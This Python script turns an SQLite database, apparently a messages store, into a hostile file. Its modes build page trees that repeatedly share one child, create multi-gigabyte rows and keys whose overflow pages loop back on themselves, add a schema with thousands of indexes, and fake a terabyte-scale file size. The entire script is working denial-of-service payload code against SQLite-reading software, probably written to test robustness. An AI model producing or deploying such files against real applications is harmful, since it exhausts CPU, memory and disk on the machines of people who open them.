#!/usr/bin/env python3
"""Makes a store hostile: hostile-store.py WAY FILE. See https://www.sqlite.org/fileformat.html, section 1.6."""

import os
import sqlite3
import sys

PAGE = 4096
INDEX, TABLE, INDEX_LEAF, TABLE_LEAF = 2, 5, 10, 13
# A record with one row or key of this size begins in its page and goes on in overflow pages.
LOCAL = (PAGE - 12) * 32 // 255 - 23

way, file = sys.argv[1:]


def big_endian(number, size=4):
    return number.to_bytes(size, "big")


def varint(number):
    digits = [number & 0x7F]
    while number := number >> 7:
        digits.insert(0, 0x80 | number & 0x7F)
    return bytes(digits)


def page(kind, cell, child=b"", cells=1, before=b""):
    """A page whose cells are all the same."""
    place = big_endian(PAGE - len(cell), 2)
    header = bytes([kind, 0, 0]) + big_endian(cells, 2) + place + b"\0" + child
    return (before + header + place * cells).ljust(PAGE - len(cell), b"\0") + cell


def run(sql):
    database = sqlite3.connect(file, isolation_level=None)
    database.executescript("PRAGMA ignore_check_constraints = ON; PRAGMA writable_schema = ON;" + sql)
    roots = dict(database.execute("SELECT name, rootpage FROM sqlite_master WHERE rootpage > 0"))
    database.close()
    return {"schema": 1, **roots}


def shared_children(name):
    """Puts nine levels of pages above a leaf. Each has 300 times the same child, and the file claims 4 TB."""
    kind, cell = {
        "schema": (TABLE, b"\1"),
        "messages": (TABLE, b"\1"),
        # Records of row 1: provider 1 and type 1, and the sender "a".
        "messages_by_provider_and_type": (INDEX, b"\4\4\x09\x09\x09"),
        "messages_by_sender": (INDEX, b"\4\3\x0f\x09a"),
    }[name]
    root = run(
        "UPDATE messages SET sender = 'a', voicemail_id = NULL; DELETE FROM messages WHERE id = 2;"
        "INSERT INTO sqlite_master VALUES ('view', 'v', 'v', 0, 'CREATE VIEW v AS SELECT 1 WHERE 1 IN (1"
        + ",1" * 900 + ")')"
    )[name]
    pages = pages_of_file()
    start = 100 if root == 1 else 0
    leaf = pages[root]
    pages.append(leaf[start : start + 64] + leaf[64:])
    for level in range(9):
        child = big_endian(len(pages) - 1)
        above = page(kind, child + cell, child, 300, leaf[:start] if level == 8 else b"")
        if level == 8:
            pages[root] = above
        else:
            pages.append(above)
    write(pages, 1 << 30)


def long_row():
    """A column that is not read has 1.6 GB, in a page that is followed by itself, in each of 300 rows."""
    root = run("DELETE FROM messages WHERE id <> 2; UPDATE messages SET id = 1")["messages"]
    pages = pages_of_file()
    leaf = pages[root]
    start = int.from_bytes(leaf[5:7], "big")
    record = start + (2 if leaf[start] < 0x80 else 3)
    types, values = leaf[record + 2 : record + leaf[record]], leaf[record + leaf[record] :]
    times = 400000
    size = LOCAL + times * (PAGE - 4)
    header_size = 1 + 5 + len(types)
    row = varint(header_size) + varint(2 * (size - header_size - len(values)) + 12) + types
    following = big_endian(len(pages))
    pages.append(following + values.rjust(PAGE - 4, b"\0"))
    pages.append(page(TABLE_LEAF, varint(size) + b"\1" + row.ljust(LOCAL, b"\0") + following))
    child = big_endian(len(pages) - 1)
    pages[root] = page(TABLE, child + b"\1", child, 300)
    write(pages, times + 10)


def long_key():
    """A key of 1.9 GB, all but its beginning in a page that is followed by itself."""
    root = run("")["messages_by_sender"]
    pages = pages_of_file()
    size = LOCAL + 460000 * (PAGE - 4)
    key = (b"\7" + varint(13 + 2 * (size - 8)) + b"\1").ljust(LOCAL, b"x")
    following = big_endian(len(pages))
    pages[root] = page(INDEX_LEAF, varint(size) + key + following)
    pages.append(following.ljust(PAGE, b"x"))
    write(pages, 500000)


def slow_schema():
    """Tables with many indexes, whose pages SQLite does not look for before it uses them."""
    columns = ",".join(f"c{i}" for i in range(32))
    uniques = "".join(f",UNIQUE(c{i},c{(i + j + 1) % 32})" for i in range(1, 32) for j in range(16))
    run(
        "".join(f"CREATE TABLE t{i}({columns});" for i in range(150))
        + f"UPDATE sqlite_master SET sql = replace(sql, ')', '{uniques})') WHERE name GLOB 't*'"
    )


def pages_of_file():
    """The pages by their numbers, from 1."""
    with open(file, "rb") as store:
        return [b"", *iter(lambda: store.read(PAGE), b"")]


def write(pages, claimed):
    """Behind the pages, up to the number that the header claims, the file is a hole."""
    pages[1] = pages[1][:28] + big_endian(claimed) + pages[1][32:]
    with open(file, "wb") as store:
        store.write(b"".join(pages))
    os.truncate(file, claimed * PAGE)


name, *arguments = way.split(":")
{"shared-children": shared_children, "long-row": long_row, "long-key": long_key, "slow-schema": slow_schema}[name](
    *arguments
)
